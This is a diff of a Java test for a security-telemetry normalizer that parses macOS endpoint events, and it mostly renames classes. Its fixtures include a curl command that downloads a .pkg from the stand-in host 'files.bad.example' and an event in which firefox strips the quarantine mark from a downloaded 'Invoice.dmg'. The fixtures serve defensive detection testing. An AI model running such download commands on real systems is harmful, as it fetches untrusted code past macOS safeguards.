@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.clicktrail.event.Event;
 import io.clicktrail.event.EventKind;
 import io.clicktrail.event.MarkAction;
-import io.clicktrail.normalizer.Facts;
-import io.clicktrail.normalizer.Reader;
+import io.clicktrail.normalizer.parse.EventFacts;
+import io.clicktrail.normalizer.parse.TestNormalizer;
 import io.clicktrail.normalizer.raw.Reason;
 import java.util.List;
 import java.util.stream.Stream;
@@ -35,23 +35,23 @@ class EndpointSecurityTest {
             new Story("deleteextattr", EndpointSecurityFixtures.DELETE_QUARANTINE, """
                     {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"deleteextattr","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","mark":"removed"}}"""));
 
-    private final Reader reader = new Reader();
+    private final TestNormalizer reader = new TestNormalizer();
 
     @TestFactory
     Stream<DynamicTest> readsEveryMessageWithTokensOfBothShapes() {
         return STORIES.stream()
                 .map(story -> DynamicTest.dynamicTest(story.name(), () -> {
                     String shipped = EndpointSecurityFixtures.shipped(story.message());
-                    assertThat(Facts.of(reader.event(shipped)))
+                    assertThat(EventFacts.of(reader.event(shipped)))
                             .isEqualTo(story.expected().formatted(HOST));
-                    assertThat(Facts.of(reader.event(EndpointSecurityFixtures.withArrays(shipped))))
+                    assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.withArrays(shipped))))
                             .isEqualTo(story.expected().formatted(HOST));
                 }));
     }
 
     @Test
     void readsJamfProtectsTelemetryWithItsHostAndItsIdentities() {
-        assertThat(Facts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
+        assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
                 .isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec","dataset":"macos.jamf-protect"},"host":{"name":"mac-3.corp.example","hostname":"mac-3.corp.example","domain":"corp.example","id":"C02X","ip":["10.1.2.33"],"os":{"type":"macos"}},"user":{"id":"501"},"process":{"entity_id":"U-951-2202","pid":951,"start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada","parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},"responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}""");
     }
